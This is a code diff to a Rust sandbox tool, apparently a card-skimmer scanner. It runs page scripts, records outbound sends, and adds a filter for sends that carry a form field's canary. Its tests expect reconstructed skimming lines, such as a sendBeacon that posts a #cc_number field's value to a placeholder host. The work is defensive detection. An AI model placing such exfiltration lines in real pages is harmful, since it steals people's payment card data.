@@ -69,8 +69,14 @@ pub fn observe(src: &str, limits: Limits) -> Result<Observed, SandboxError> {
     let mut steps = || -> Result<(), SandboxError> {
         sandbox.run(src)?;
         sandbox.drain_jobs(10_000)?;
-        sandbox.run("__skimscan_page.act()")?;
-        sandbox.drain_jobs(10_000)?;
+        let steps = match sandbox.run("String(__skimscan_page.steps)")? {
+            Outcome::Done(Some(n)) => n.parse::<usize>().unwrap_or(0),
+            _ => 0,
+        };
+        for i in 0..steps {
+            sandbox.run(&format!("__skimscan_page.step({i})"))?;
+            sandbox.drain_jobs(10_000)?;
+        }
         Ok(())
     };
     let ended = steps();
@@ -85,8 +91,9 @@ pub fn observe(src: &str, limits: Limits) -> Result<Observed, SandboxError> {
     }
 }
 
-/// The flows of `observed` as plain JavaScript, or None when nothing was sent.
-pub fn layer(observed: &Observed) -> Option<String> {
+/// The sends of `observed` as plain JavaScript, or None when nothing was sent. `flows_only`:
+/// only sends that carried a field's canary.
+pub fn layer(observed: &Observed, flows_only: bool) -> Option<String> {
     let mut lines = Vec::new();
     let mut seen = std::collections::BTreeSet::new();
     for (how, url, data) in &observed.sends {
@@ -94,6 +101,9 @@ pub fn layer(observed: &Observed) -> Option<String> {
             continue;
         }
         let fields = fields_in(&format!("{url}\n{data}"), &observed.reads);
+        if flows_only && fields.is_empty() {
+            continue;
+        }
         let line = statement(how, url, &fields);
         if let Some(line) = line
             && seen.insert(line.clone())
@@ -342,13 +352,13 @@ mod tests {
                 ("worker".into(), "blob:x".into(), String::new()),
             ],
         };
-        let code = layer(&obs).unwrap();
+        let code = layer(&obs, false).unwrap();
         assert!(code.contains(
             "navigator.sendBeacon(\"https://c.example/k\", [document.querySelector(\"#cc_number\").value].join(\"|\"));"
         ));
         assert!(code.contains("new Image().src = \"https://img.example/p.gif\";"));
         assert!(!code.contains("blob:"));
-        assert!(layer(&Observed::default()).is_none());
+        assert!(layer(&Observed::default(), false).is_none());
     }
 
     #[test]
@@ -376,7 +386,7 @@ mod tests {
             vec![("#card-number".to_string(), PAN.to_string())]
         );
         assert_eq!(obs.sends.len(), 1);
-        let code = layer(&obs).unwrap();
+        let code = layer(&obs, false).unwrap();
         assert!(
             code.contains("x.open(\"POST\", \"https://stats.example/c\")"),
             "{code}"
